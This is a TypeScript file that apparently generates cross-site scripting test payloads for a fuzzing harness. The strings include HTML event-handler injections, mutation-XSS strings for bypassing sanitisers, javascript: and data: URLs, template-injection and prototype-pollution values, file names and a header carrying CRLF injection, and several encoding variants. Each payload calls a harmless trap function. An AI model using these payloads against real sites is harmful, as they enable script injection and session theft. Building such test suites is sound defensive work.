/** What a payload calls when it runs. */
export const TRAP = 'zzran'
const run = `${TRAP}()`

const HTML = [
  `<script>${run}</script>`,
  `<img src=x onerror=${run}>`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<details open ontoggle=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<video><source onerror=${run}></video>`,
  `<body onload=${run}>`,
  `<object data="javascript:${run}"></object>`,
  `<style>@import 'javascript:${run}'</style><x onanimationstart=${run}>`,
  `"><script>${run}</script>`,
  `'><img src=x onerror=${run}>`,
  `" autofocus onfocus="${run}`,
  `</title><script>${run}</script>`,
  `</textarea><svg onload=${run}>`,
  `</script><script>${run}</script>`,
  `<!--><img src=x onerror=${run}>-->`,
  `<ScRiPt>${run}</sCrIpT>`,
  `<img src="x" onerror="&#122;zran()">`,
]
const MUTATED = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<template><script>${run}</script></template>`,
  `<svg><style><img src=x onerror=${run}></style></svg>`,
  `<a href="x"><b>'</a><img src=x onerror=${run}>`,
  `<xmp><p title="</xmp><svg/onload=${run}>">`,
]
const MARKDOWN = [
  `[x](javascript:${run})`,
  `![x](x"onerror="${run})`,
  `<javascript:${run}>`,
  `[x]: javascript:${run}\n[x]`,
  `\`\`\`html\n<script>${run}</script>\n\`\`\``,
]
const ADDRESSES = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java\tscript:${run}`,
  `\u0001javascript:${run}`,
  `data:text/html,<script>opener.${run}</script>`,
  `vbscript:${run}`,
  `javascript://%0a${run}`,
]
const JSONS = [
  `"};${run};//`,
  `</script><script>/*"*/${run}</script>`,
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `\u2028${run}\u2029`,
  `{"__proto__":{"innerHTML":"<img src=x onerror=${run}>"}}`,
  `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${run}>"}}`,
]
const TEMPLATES = [
  `{{${run}}}`,
  `\${${run}}`,
  `<%= ${run} %>`,
  `{{constructor.constructor('${run}')()}}`,
  `#{${run}}`,
  `[[${run}]]`,
]
const NAMES = [
  `x.svg"><svg onload=${run}>.svg`,
  `<img src=x onerror=${run}>.png`,
  `"onmouseover="${run}".pdf`,
  `x\r\nContent-Type: text/html\r\n\r\n<script>${run}</script>`,
]
const STYLES = [
  `red;background:url(javascript:${run})`,
  `expression(${run})`,
  `</style><script>${run}</script>`,
  `x" style="animation-name:x" onanimationstart="${run}`,
]
const FIRST = [...HTML, ...MUTATED, ...MARKDOWN, ...ADDRESSES, ...JSONS, ...TEMPLATES, ...NAMES, ...STYLES]

/** The same in other clothes: widths, entities, breaks, quotes. */
const CLOTHES: ((text: string) => string)[] = [
  (t) => t.replaceAll('<', '＜').replaceAll('>', '＞'),
  (t) => t.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (t) => encodeURIComponent(t),
  (t) => t.replaceAll(' ', '/'),
  (t) => `${t}<x>${t}`,
]
export const payloads = (many: number) =>
  [...FIRST, ...CLOTHES.flatMap((dress) => FIRST.map(dress))].slice(0, Math.max(many, FIRST.length))
